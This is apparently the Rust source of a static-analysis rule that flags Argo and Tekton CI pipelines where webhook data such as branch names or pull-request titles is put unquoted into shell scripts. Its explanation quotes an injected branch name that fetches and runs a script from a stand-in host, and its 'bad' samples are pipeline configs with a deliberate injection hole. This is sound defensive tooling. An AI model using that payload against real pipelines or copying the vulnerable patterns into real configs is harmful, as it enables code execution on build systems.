use crate::rules::prelude::*;

use super::with_way;

pub(crate) static RULE: Rule = Rule {
    id: "event-to-script",
    confidence: Confidence::High,
    title: "text of an event becomes part of a program",
    why: "Argo and Tekton put the value into the text of the program before it runs, without quotes. Who may push a branch, open \
          an issue or call the webhook chooses that text: a branch may be called `x$(curl evil|sh)`.",
    fix: "Pass the value through the environment (`env: [{name: REF, value: …}]`) and write `\"$REF\"` in the program, or carry it \
          as base64 (`| b64enc` in `dataTemplate`) and decode it in the program.",
    source: "argo-workflows v4.1 docs/walk-through/parameters.md; tektoncd/pipeline v1.15 docs/variables.md; GitHub Security Lab, \
             Keeping your GitHub Actions and workflows secure, part 2",
    bad: &[
        Example::new(
            "apiVersion: argoproj.io/v1alpha1
kind: EventSource
metadata: {name: github, namespace: ci}
spec:
  github:
    push:
      repositories: [{owner: acme, names: [shop]}]
      webhook: {endpoint: /push, port: '12000', method: POST}
      events: [push]
      webhookSecret: {name: github, key: secret}
---
apiVersion: argoproj.io/v1alpha1
kind: Sensor
metadata: {name: github, namespace: ci}
spec:
  template: {serviceAccountName: sensor}
  dependencies:
  - name: push
    eventSourceName: github
    eventName: push
    filters: {data: [{path: body.deleted, type: bool, value: ['false']}]}
  triggers:
  - template:
      name: build
      k8s:
        operation: create
        source:
          resource:
            apiVersion: argoproj.io/v1alpha1
            kind: Workflow
            metadata: {generateName: build-, namespace: ci}
            spec:
              workflowTemplateRef: {name: build}
              arguments:
                parameters: [{name: ref, value: ''}]
        parameters:
        - src: {dependencyName: push, dataKey: body.ref}
          dest: spec.arguments.parameters.0.value
---
apiVersion: argoproj.io/v1alpha1
kind: WorkflowTemplate
metadata: {name: build, namespace: ci}
spec:
  entrypoint: main
  serviceAccountName: build
  arguments:
    parameters: [{name: ref}]
  templates:
  - name: main
    steps:
    - - name: clone
        template: clone
        arguments:
          parameters: [{name: branch, value: '{{workflow.parameters.ref}}'}]
  - name: clone
    inputs:
      parameters: [{name: branch}]
    container:
      image: alpine/git:v2.49.1
      command: [sh, -c]
      args: ['git fetch origin \"⟦{{inputs.parameters.branch}}⟧\"']
",
        ),
        Example::new(
            "apiVersion: triggers.tekton.dev/v1beta1
kind: EventListener
metadata: {name: github, namespace: ci}
spec:
  serviceAccountName: triggers
  triggers:
  - interceptors:
    - ref: {name: github}
      params:
      - name: secretRef
        value: {secretName: github, secretKey: secret}
    bindings: [{name: title, value: $(body.pull_request.title)}]
    template: {ref: build}
---
apiVersion: triggers.tekton.dev/v1beta1
kind: TriggerTemplate
metadata: {name: build, namespace: ci}
spec:
  params: [{name: title}]
  resourcetemplates:
  - apiVersion: tekton.dev/v1
    kind: TaskRun
    metadata: {generateName: greet-}
    spec:
      serviceAccountName: greeter
      taskRef: {name: greet}
      params: [{name: text, value: $(tt.params.title)}]
---
apiVersion: tekton.dev/v1
kind: Task
metadata: {name: greet, namespace: ci}
spec:
  params: [{name: text}]
  steps:
  - name: greet
    image: alpine:3.23
    script: |
      echo 'ready'
      echo \"built ⟦$(params.text)⟧\"
",
        ),
    ],
    good: &[Example::new(
        "apiVersion: argoproj.io/v1alpha1
kind: Sensor
metadata: {name: github, namespace: ci}
spec:
  template: {serviceAccountName: sensor}
  dependencies:
  - name: push
    eventSourceName: github
    eventName: push
    filters: {data: [{path: body.deleted, type: bool, value: ['false']}]}
  triggers:
  - template:
      name: build
      k8s:
        operation: create
        source:
          resource:
            apiVersion: argoproj.io/v1alpha1
            kind: Workflow
            metadata: {generateName: build-, namespace: ci}
            spec:
              entrypoint: main
              serviceAccountName: build
              arguments:
                parameters: [{name: ref, value: ''}, {name: encoded, value: ''}, {name: revision, value: ''}]
              templates:
              - name: main
                container:
                  image: alpine/git:v2.49.1
                  env: [{name: REF, value: '{{workflow.parameters.ref}}'}]
                  command: [sh, -c]
                  args: ['git fetch origin \"$REF\" {{workflow.parameters.encoded}} {{workflow.parameters.revision}}']
        parameters:
        - src: {dependencyName: push, dataKey: body.ref}
          dest: spec.arguments.parameters.0.value
        - src: {dependencyName: push, dataTemplate: '{{ .Input.body.ref | b64enc }}'}
          dest: spec.arguments.parameters.1.value
        - src: {dependencyName: push, dataKey: body.after}
          dest: spec.arguments.parameters.2.value
",
    )],
    check: Check::Flows(check),
    ..DANGEROUS
};

fn check(flows: &[Flow], sink: &mut Sink<'_>) {
    for flow in flows.iter().filter(|flow| flow.is_event) {
        let Use::Script(language) = flow.used_as else {
            continue;
        };
        let message = format!("`{}` of an event becomes part of this {language} script: who sends the event runs code here", flow.what);
        let finding = sink.finding(message).help("pass it through `env` and use the variable in quotes, or carry it as base64");
        sink.push(with_way(finding, flow));
    }
}
